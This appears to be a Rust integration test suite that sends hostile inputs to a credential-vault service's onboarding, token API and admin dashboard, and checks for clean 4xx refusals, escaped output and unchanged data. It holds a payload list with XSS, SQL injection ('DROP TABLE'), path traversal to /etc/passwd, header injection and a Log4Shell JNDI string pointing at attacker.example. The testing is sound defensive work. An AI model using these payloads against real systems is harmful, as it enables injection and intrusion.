//! Hostile input across every endpoint a person or an integration reaches (the dev IdP
//! excluded): onboarding, the consent callback, self-service revoke, the token API, the dashboard's forms and
//! queries. Each case is sent as an attacker would send it and must get a clear answer
//! (4xx, or 200 for a search that simply finds nothing), never a 5xx, never the payload back
//! as markup, and no change to what samvault holds (partners, grants, clients, secrets,
//! invitations, ops users). It lives in the dashboard binary because half the cases need a
//! signed-in operator.

use super::Operator;
use super::support::stack::*;
use super::support::{self, Backend};
use crate::on_both_backends;
use reqwest::Method;

/// Payloads tried in every field that could reach a query, a page or a path.
const PAYLOADS: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "' OR '1'='1",
    "'; DROP TABLE partners;--",
    "{{7*7}}{% raw %}${7*7}",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "%00%0d%0aSet-Cookie:x=1",
    "\u{202e}gnp.exe",
    "javascript:alert(1)",
    "${jndi:ldap://attacker.example/x}",
    "𝕏𝕏𝕏 \u{0}",
];

/// Contoso's customer Adatum in the dev IdP's demo directory.
const ADATUM: &str = "7b1e0c3a-5d2f-4c8e-9a6b-00000000c001";

/// Markup that must never come back unescaped.
const REFLECTED: [&str; 2] = ["<script>alert(1)</script>", "<svg onload=alert(1)>"];

struct Case {
    name: String,
    method: Method,
    path: String,
    content_type: Option<&'static str>,
    body: Vec<u8>,
    auth: Auth,
    /// A search that finds nothing may answer 200.
    may_succeed: bool,
    /// Extra request headers (a forged `X-Forwarded-For`), as raw bytes.
    headers: Vec<(&'static str, Vec<u8>)>,
}

#[derive(Clone, Copy)]
enum Auth {
    None,
    /// HTTP Basic with a valid integration client.
    Client,
    /// The signed-in admin's session cookie.
    Admin,
}

fn enc(value: &str) -> String {
    url::form_urlencoded::byte_serialize(value.as_bytes()).collect()
}

fn form(pairs: &[(&str, &str)]) -> Vec<u8> {
    let mut serializer = url::form_urlencoded::Serializer::new(String::new());
    for (k, v) in pairs {
        serializer.append_pair(k, v);
    }
    serializer.finish().into_bytes()
}

fn case(name: String, method: Method, path: String, auth: Auth) -> Case {
    Case {
        name,
        method,
        path,
        content_type: None,
        body: Vec::new(),
        auth,
        may_succeed: false,
        headers: Vec::new(),
    }
}

fn with_body(mut c: Case, content_type: &'static str, body: Vec<u8>) -> Case {
    c.content_type = Some(content_type);
    c.body = body;
    c
}

fn cases(csrf: &str) -> Vec<Case> {
    let token = format!("/api/v1/partners/{CONTOSO}/token");
    let json = "application/json";
    let urlencoded = "application/x-www-form-urlencoded";
    let mut all = Vec::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let e = enc(p);
        // The token API: the tenant in the path, the resource and the tenant in the body.
        all.push(with_body(
            case(
                format!("token path #{i}"),
                Method::POST,
                format!("/api/v1/partners/{e}/token"),
                Auth::Client,
            ),
            json,
            serde_json::json!({ "resource": PARTNER_CENTER, "purpose": "x" })
                .to_string()
                .into_bytes(),
        ));
        all.push(with_body(
            case(
                format!("token resource #{i}"),
                Method::POST,
                token.clone(),
                Auth::Client,
            ),
            json,
            serde_json::json!({ "resource": p, "purpose": "x" })
                .to_string()
                .into_bytes(),
        ));
        all.push(case(
            format!("partner read path #{i}"),
            Method::GET,
            format!("/api/v1/partners/{e}"),
            Auth::Client,
        ));
        // Onboarding: invitation tokens, the start form's CSRF, the callback's parameters.
        all.push(case(
            format!("invitation #{i}"),
            Method::GET,
            format!("/onboard/i/{e}"),
            Auth::None,
        ));
        all.push(with_body(
            case(
                format!("onboard start csrf #{i}"),
                Method::POST,
                "/onboard/start".into(),
                Auth::None,
            ),
            urlencoded,
            form(&[("csrf", p), ("invitation", p)]),
        ));
        // Self-service revoke: its start form, and a confirmation with no sign-in behind it.
        all.push(with_body(
            case(
                format!("revoke start csrf #{i}"),
                Method::POST,
                "/onboard/revoke/start".into(),
                Auth::None,
            ),
            urlencoded,
            form(&[("csrf", p)]),
        ));
        all.push(with_body(
            case(
                format!("revoke confirm #{i}"),
                Method::POST,
                "/onboard/revoke/confirm".into(),
                Auth::None,
            ),
            urlencoded,
            form(&[("csrf", p), ("tenant", p)]),
        ));
        all.push(case(
            format!("callback state #{i}"),
            Method::GET,
            format!("/onboard/callback?code={e}&state={e}"),
            Auth::None,
        ));
        all.push(case(
            format!("callback error #{i}"),
            Method::GET,
            format!("/onboard/callback?error={e}&error_description={e}&state={e}"),
            Auth::None,
        ));
        // The dashboard: sign-in, paths, queries and forms (with the admin's valid CSRF token,
        // so validation itself is what refuses them).
        all.push(with_body(
            case(
                format!("ops sign-in #{i}"),
                Method::POST,
                "/ops/signin".into(),
                Auth::None,
            ),
            urlencoded,
            form(&[("csrf", p), ("username", p), ("password", p), ("code", p)]),
        ));
        // The same with this session's CSRF token, so the credentials themselves are refused
        // (401, or 429 once the address's failures are spent), a forged X-Forwarded-For
        // changing nothing; and the password form, whose current password is checked.
        let mut signin = with_body(
            case(
                format!("ops sign-in with a csrf #{i}"),
                Method::POST,
                "/ops/signin".into(),
                Auth::Admin,
            ),
            urlencoded,
            form(&[
                ("csrf", csrf),
                ("username", p),
                ("password", p),
                ("code", p),
            ]),
        );
        // Any bytes a header may carry: everything but control characters.
        let forged = p.bytes().filter(|b| *b >= 0x20 && *b != 0x7f).collect();
        signin.headers.push(("x-forwarded-for", forged));
        all.push(signin);
        all.push(with_body(
            case(
                format!("ops password change #{i}"),
                Method::POST,
                "/ops/password".into(),
                Auth::Admin,
            ),
            urlencoded,
            form(&[
                ("csrf", csrf),
                ("current", p),
                ("new", "a hostile but long passphrase"),
                ("confirm", "a hostile but long passphrase"),
            ]),
        ));
        all.push(case(
            format!("ops partner path #{i}"),
            Method::GET,
            format!("/ops/partners/{e}"),
            Auth::Admin,
        ));
        let mut search = case(
            format!("ops partner search #{i}"),
            Method::GET,
            format!("/ops/partners?q={e}"),
            Auth::Admin,
        );
        search.may_succeed = true;
        all.push(search);
        all.push(case(
            format!("ops partner sort #{i}"),
            Method::GET,
            format!("/ops/partners?sort={e}&status={e}&cursor={e}"),
            Auth::Admin,
        ));
        let mut audit = case(
            format!("ops audit filter #{i}"),
            Method::GET,
            format!("/ops/audit?actor={e}&action={e}&tenant={e}"),
            Auth::Admin,
        );
        audit.may_succeed = true;
        all.push(audit);
        all.push(with_body(
            case(
                format!("ops invitation #{i}"),
                Method::POST,
                "/ops/invitations".into(),
                Auth::Admin,
            ),
            urlencoded,
            form(&[("csrf", csrf), ("tenant_id", p), ("days", p)]),
        ));
        all.push(with_body(
            case(
                format!("ops client resources #{i}"),
                Method::POST,
                "/ops/integrations".into(),
                Auth::Admin,
            ),
            urlencoded,
            form(&[
                ("csrf", csrf),
                ("name", "hostile"),
                ("permissions", "tokens:issue"),
                ("resources", p),
                ("rate_limit", "60"),
            ]),
        ));
        // A partner's customers: the customer id in the path, the typed confirmation, the
        // list's cursor.
        let customers = format!("/ops/partners/{CONTOSO}/customers");
        for act in ["consent", "remove"] {
            all.push(with_body(
                case(
                    format!("ops customer {act} path #{i}"),
                    Method::POST,
                    format!("{customers}/{e}/{act}"),
                    Auth::Admin,
                ),
                urlencoded,
                form(&[("csrf", csrf), ("confirm", p)]),
            ));
        }
        all.push(with_body(
            case(
                format!("ops customer remove confirm #{i}"),
                Method::POST,
                format!("{customers}/{ADATUM}/remove"),
                Auth::Admin,
            ),
            urlencoded,
            form(&[("csrf", csrf), ("confirm", p)]),
        ));
        for act in ["sync", "consent", "check"] {
            all.push(with_body(
                case(
                    format!("ops customers {act} partner path #{i}"),
                    Method::POST,
                    format!("/ops/partners/{e}/customers/{act}"),
                    Auth::Admin,
                ),
                urlencoded,
                form(&[("csrf", csrf)]),
            ));
        }
        all.push(case(
            format!("ops customers cursor #{i}"),
            Method::GET,
            format!("/ops/partners/{CONTOSO}?customers_after={e}"),
            Auth::Admin,
        ));
        all.push(with_body(
            case(
                format!("ops revoke confirm #{i}"),
                Method::POST,
                format!("/ops/partners/{CONTOSO}/revoke"),
                Auth::Admin,
            ),
            urlencoded,
            form(&[("csrf", csrf), ("confirm", p)]),
        ));
    }
    // Structure rather than content: bodies, encodings, headers, missing CSRF.
    for (name, body) in [
        ("not json", b"resource=x".to_vec()),
        ("truncated json", b"{\"resource\": \"https://api.partnercenter.micro".to_vec()),
        ("json array", b"[1,2,3]".to_vec()),
        ("wrong types", b"{\"resource\": 42, \"purpose\": []}".to_vec()),
        ("invalid utf-8", b"{\"resource\": \"\xff\xfe\", \"purpose\": \"x\"}".to_vec()),
        ("deep nesting", format!("{}{}", "[".repeat(5000), "]".repeat(5000)).into_bytes()),
        ("duplicate keys", format!("{{\"resource\": \"{PARTNER_CENTER}\", \"resource\": \"https://evil.example\", \"purpose\": \"x\"}}").into_bytes()),
        ("empty", Vec::new()),
        ("oversized", vec![b' '; 2 * 1024 * 1024]),
    ] {
        all.push(with_body(case(format!("token body: {name}"), Method::POST, token.clone(), Auth::Client), json, body));
    }
    all.push(with_body(
        case(
            "token body as a form".into(),
            Method::POST,
            token.clone(),
            Auth::Client,
        ),
        urlencoded,
        form(&[("resource", PARTNER_CENTER), ("purpose", "x")]),
    ));
    for (name, path) in [
        (
            "callback with state twice",
            "/onboard/callback?code=a&state=a&state=b".to_string(),
        ),
        (
            "callback without parameters",
            "/onboard/callback".to_string(),
        ),
        (
            "callback with invalid utf-8",
            "/onboard/callback?code=%FF%FE&state=%C0%AF".to_string(),
        ),
        (
            "ops partner path with dots",
            "/ops/partners/..%2F..%2Fops".to_string(),
        ),
        (
            "ops audit with a bad date",
            "/ops/audit?from=2026-13-45&to=yesterday".to_string(),
        ),
        (
            "ops security csv with a query",
            "/ops/security/requests.csv?limit=-1".to_string(),
        ),
    ] {
        let mut c = case(
            name.into(),
            Method::GET,
            path,
            if name.starts_with("ops") {
                Auth::Admin
            } else {
                Auth::None
            },
        );
        c.may_succeed = name.contains("csv");
        all.push(c);
    }
    // Admin actions without the CSRF token: refused whatever else the form says.
    for path in [
        format!("/ops/partners/{CONTOSO}/revoke"),
        format!("/ops/partners/{CONTOSO}/rotate"),
        "/ops/integrations".to_string(),
        "/ops/invitations".to_string(),
        "/ops/audit/verify".to_string(),
        format!("/ops/partners/{CONTOSO}/customers/sync"),
        format!("/ops/partners/{CONTOSO}/customers/consent"),
        format!("/ops/partners/{CONTOSO}/customers/check"),
        format!("/ops/partners/{CONTOSO}/customers/{ADATUM}/consent"),
        format!("/ops/partners/{CONTOSO}/customers/{ADATUM}/remove"),
    ] {
        all.push(with_body(
            case(
                format!("no csrf: {path}"),
                Method::POST,
                path.clone(),
                Auth::Admin,
            ),
            urlencoded,
            form(&[
                ("confirm", CONTOSO),
                ("name", "x"),
                ("tenant_id", CONTOSO),
                ("days", "7"),
            ]),
        ));
    }
    all
}

/// What samvault holds, as one comparable string.
async fn holdings(stack: &Stack) -> String {
    let mut out = String::new();
    for sql in [
        "SELECT COUNT(*) FROM partners WHERE status = 'active' AND tenant_id <> $1",
        "SELECT COUNT(*) FROM grants WHERE sealed IS NOT NULL AND tenant_id <> $1",
        "SELECT COUNT(*) FROM clients WHERE revoked_at IS NULL AND client_id <> $1",
        "SELECT COUNT(*) FROM client_secrets WHERE revoked_at IS NULL AND id <> $1",
        "SELECT COUNT(*) FROM invitations WHERE id <> $1",
        "SELECT COUNT(*) FROM ops_users WHERE disabled_at IS NULL AND username <> $1",
        "SELECT COUNT(*) FROM consents WHERE tenant_id <> $1",
        "SELECT COUNT(*) FROM customers WHERE status <> 'unconsented' AND customer_tenant_id <> $1",
    ] {
        out.push_str(&format!("{} ", stack.scalar(sql, "").await));
    }
    out
}

async fn hostile_inputs_get_clear_refusals_and_change_nothing(backend: Backend) {
    let Some(db) = support::fresh_database(backend).await else {
        return;
    };
    // Nothing consents customers on its own: a consent or removal could only be the
    // requests' doing.
    let options = StackOptions::default().env("SAMVAULT_CUSTOMER_AUTO_CONSENT", "false");
    let stack = Stack::start(&db.url, options).await;
    stack.consent("jane@contoso.example").await;
    let creds = stack.client(&[PARTNER_CENTER]);
    let mut admin = Operator::signed_in(&stack, "alice", "admin").await;
    let csrf = admin.csrf("/ops").await;
    let cookie = admin.cookie().unwrap();
    let before = holdings(&stack).await;

    // A connection per request: the server closes the one an oversized body came on, and a
    // pooled client would send the next case into that closed connection.
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .pool_max_idle_per_host(0)
        .build()
        .unwrap();
    let cases = cases(&csrf);
    assert!(cases.len() >= 150, "{} cases", cases.len());
    let mut failures = Vec::new();
    for c in &cases {
        let mut request = http.request(c.method.clone(), format!("{}{}", stack.sv(), c.path));
        if let Some(content_type) = c.content_type {
            request = request
                .header("content-type", content_type)
                .body(c.body.clone());
        }
        for (name, value) in &c.headers {
            let value = reqwest::header::HeaderValue::from_bytes(value).unwrap();
            request = request.header(*name, value);
        }
        request = match c.auth {
            Auth::None => request,
            Auth::Client => request.basic_auth(&creds.0, Some(&creds.1)),
            Auth::Admin => request.header("cookie", &cookie),
        };
        let response = match request.send().await {
            Ok(response) => response,
            // The server may close the connection on an oversized body: a refusal too.
            Err(e) if c.body.len() > 1024 * 1024 => {
                eprintln!("{}: connection closed ({e})", c.name);
                continue;
            }
            Err(e) => panic!("{}: {e}", c.name),
        };
        let status = response.status().as_u16();
        let body = response.text().await.unwrap_or_default();
        let clear = (400..500).contains(&status) || (c.may_succeed && status == 200);
        if !clear {
            failures.push(format!(
                "{}: {status} {}",
                c.name,
                body.chars().take(200).collect::<String>()
            ));
        }
        if let Some(markup) = REFLECTED.iter().find(|m| body.contains(**m)) {
            failures.push(format!("{}: reflected {markup}", c.name));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases:\n{}",
        failures.len(),
        cases.len(),
        failures.join("\n")
    );
    assert_eq!(
        holdings(&stack).await,
        before,
        "nothing samvault holds changed"
    );
    // And the service still serves the partner the hostile requests were aimed at.
    assert_eq!(stack.token(&creds, CONTOSO, token_body()).await.0, 200);
}

/// A directory whose Contoso users carry hostile display names (Entra lets any user set
/// theirs): they reach the page that names who holds a grant.
const HOSTILE_DIRECTORY: &str = r#"
[[tenants]]
id = "6f3a2a5e-0c1d-4a3b-8f4e-1c2d3e4f5a01"
name = "Contoso"
domain = "contoso.example"
[[tenants.users]]
upn = "mallory@contoso.example"
name = '<script>alert(1)</script>'
role = "Admin Agent"
[[tenants.users]]
upn = "sam@contoso.example"
name = '"><svg onload=alert(1)>'
role = "Sales Agent"
"#;

/// Issue 17's pages under attack, with `SAMVAULT_ONBOARDING=invitation`: the landing page and
/// the start form with every payload as its invitation (or none) are refused with a 4xx, and
/// a consent over a grant held by a user with a hostile display name gets the page naming
/// them, escaped. Nothing samvault holds changes.
async fn hostile_inputs_meet_the_onboarding_guards(backend: Backend) {
    let Some(db) = support::fresh_database(backend).await else {
        return;
    };
    let stack = StackOptions::default().env("SAMVAULT_ONBOARDING", "invitation");
    let directory = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(directory.path(), HOSTILE_DIRECTORY).unwrap();
    let stack = stack
        .idp_arg("--directory")
        .idp_arg(directory.path().to_str().unwrap());
    let stack = Stack::start(&db.url, stack).await;
    let invite = |tenant: &[&str]| {
        let args = [&["invite", "create", "--json"], tenant].concat();
        let created: serde_json::Value = serde_json::from_str(&stack.cli(&args)).unwrap();
        created["url"].as_str().unwrap().to_string()
    };
    let done = Browser::new(&stack)
        .consent_from(
            &invite(&["--tenant", CONTOSO]),
            "mallory@contoso.example",
            true,
            "accept",
        )
        .await;
    assert_eq!(done.status, 200, "{}", done.body);
    let open = invite(&[]);
    let mut browser = Browser::new(&stack);
    let csrf = field(&browser.get(&open).await.text().await.unwrap(), "csrf");
    let before = holdings(&stack).await;

    let mut answers = Vec::new();
    for p in PAYLOADS.iter().chain(&[""]) {
        let landing = format!("{}/onboard?invitation={}", stack.sv(), enc(p));
        answers.push((format!("landing {p:?}"), browser.get(&landing).await));
        let start = format!("{}/onboard/start", stack.sv());
        let form = [("csrf", csrf.as_str()), ("invitation", p)];
        answers.push((
            format!("start {p:?}"),
            browser.post_form(&start, &form).await,
        ));
    }
    let sam = Browser::new(&stack)
        .consent_from(&open, "sam@contoso.example", true, "accept")
        .await;
    assert_eq!(sam.status, 409, "{}", sam.body);
    assert!(
        sam.body.contains("&#60;script&#62;alert(1)"),
        "{}",
        sam.body
    );
    assert!(sam.body.contains("m***@contoso.example"), "{}", sam.body);
    let mut failures = Vec::new();
    for (name, response) in answers {
        let status = response.status().as_u16();
        let body = response.text().await.unwrap_or_default();
        if !(400..500).contains(&status) {
            failures.push(format!("{name}: {status}"));
        }
        failures.extend(
            REFLECTED
                .iter()
                .filter(|m| body.contains(**m))
                .map(|m| format!("{name}: reflected {m}")),
        );
    }
    failures.extend(
        REFLECTED
            .iter()
            .filter(|m| sam.body.contains(**m))
            .map(|m| format!("held page: reflected {m}")),
    );
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert_eq!(
        holdings(&stack).await,
        before,
        "nothing samvault holds changed"
    );
}

/// Past `SAMVAULT_ONBOARD_RATE`, hostile sign-in starts and callbacks from one address get
/// the 429 page: HTML, with `Retry-After`, none of the payload back as markup, never a 5xx,
/// and nothing samvault holds changes.
async fn a_hostile_flood_of_sign_ins_gets_the_429_page(backend: Backend) {
    let Some(db) = support::fresh_database(backend).await else {
        return;
    };
    let options = StackOptions::default().env("SAMVAULT_ONBOARD_RATE", "4");
    let stack = Stack::start(&db.url, options).await;
    let before = holdings(&stack).await;
    let mut browser = Browser::new(&stack);
    let csrf = field(
        &browser
            .get(&format!("{}/onboard", stack.sv()))
            .await
            .text()
            .await
            .unwrap(),
        "csrf",
    );
    let mut answers = Vec::new();
    for p in PAYLOADS {
        let e = enc(p);
        let start = format!("{}/onboard/start", stack.sv());
        let invited = [("csrf", csrf.as_str()), ("invitation", p)];
        answers.push(browser.post_form(&start, &invited).await);
        let revoke = format!("{}/onboard/revoke/start", stack.sv());
        answers.push(browser.post_form(&revoke, &[("csrf", p)]).await);
        let callback = format!("{}/onboard/callback?code={e}&state={e}", stack.sv());
        answers.push(browser.get(&callback).await);
        let form_post = format!("{}/onboard/callback", stack.sv());
        answers.push(
            browser
                .post_form(&form_post, &[("code", p), ("state", p)])
                .await,
        );
    }
    let (mut failures, mut refused) = (Vec::new(), 0);
    for (i, response) in answers.into_iter().enumerate() {
        let status = response.status().as_u16();
        let retry_after = response.headers().contains_key("retry-after");
        let body = response.text().await.unwrap_or_default();
        if status == 429 {
            refused += 1;
            if !retry_after || !body.contains("Too many sign-ins") {
                failures.push(format!("#{i}: a 429 without its page or Retry-After"));
            }
        } else if !(400..500).contains(&status) {
            failures.push(format!("#{i}: {status}"));
        }
        failures.extend(
            REFLECTED
                .iter()
                .filter(|m| body.contains(**m))
                .map(|m| format!("#{i}: reflected {m}")),
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(refused >= 40, "{refused} of 48 refused past a budget of 4");
    assert_eq!(holdings(&stack).await, before);
}

on_both_backends!(
    hostile_inputs_get_clear_refusals_and_change_nothing,
    hostile_inputs_meet_the_onboarding_guards,
    a_hostile_flood_of_sign_ins_gets_the_429_page
);
